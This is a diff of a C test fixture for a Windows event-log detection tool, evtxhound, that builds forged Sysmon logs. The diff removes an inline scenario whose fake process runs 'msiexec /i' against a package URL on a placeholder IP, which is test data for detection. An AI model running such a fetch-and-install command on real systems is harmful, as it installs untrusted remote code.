@@ -1,31 +1,15 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* The run when things die under it: workers, files, signals. The logs are forged. */
-#include "testing.h"
+#include "testing_forge.h"
 
 #include <dirent.h>
-#include <fcntl.h>
 #include <signal.h>
-#include <sys/stat.h>
-#include <unistd.h>
 
 #include "accounts.h"
 #include "evtxhound/evtx.h"
-#include "evtxhound/forge.h"
 #include "evtxhound/pipeline.h"
 
-static const char scenario[] =
-	"start: 2026-01-05T08:00:00Z\n"
-	"seed: 1\n"
-	"hosts:\n"
-	"  A: {name: a.example, domain: EX, log: sysmon}\n"
-	"users:\n"
-	"  u: {domain: EX, sid: S-1-5-21-1-2-3-1001, logon: 0x1234}\n"
-	"processes:\n"
-	"  - {name: p, host: A, image: 'C:\\Windows\\System32\\cmd.exe', user: u, at: 5m,\n"
-	"     command: 'cmd.exe /c msiexec /i http://203.0.113.9/a.msi'}\n"
-	"noise:\n"
-	"  - {host: A, user: u, processes: 600, from: 0m, to: 60m}\n";
-#define LOG_NAME "A/Microsoft-Windows-Sysmon%4Operational.evtx"
+static const char scenario[] = FORGE_HOST FORGE_PROCESS FORGE_NOISE(600);
 
 struct fixture {
 	char dir[64];
@@ -44,17 +28,11 @@ struct fixture {
 static int set_up(void **state)
 {
 	struct fixture *x = calloc(1, sizeof(*x));
-	struct buf made;
 	char rules[4096];
 	strcpy(x->dir, "/tmp/evtxhound-run.XXXXXX");
 	assert_non_null(mkdtemp(x->dir));
 	x->dirfd = open(x->dir, O_RDONLY | O_DIRECTORY);
-	buf_init(&made, 0);
-	if (forge_scenario(view_str(scenario), "test", x->dirfd, &made, &x->e) < 0)
-		fail_msg("%s", x->e.msg);
-	buf_byte(&made, 0);
-	x->records = strtoul(strchr((const char *)made.p, ':') + 1, NULL, 10);
-	buf_release(&made);
+	x->records = forge_log(x->dir, scenario);
 	snprintf(x->log, sizeof(x->log), "%s/%s", x->dir, LOG_NAME);
 	snprintf(rules, sizeof(rules), "%s/rules", getenv("SRCDIR") ? getenv("SRCDIR") : ".");
 	assert_int_equal(ruleset_init(&x->rules, &x->e), 0);
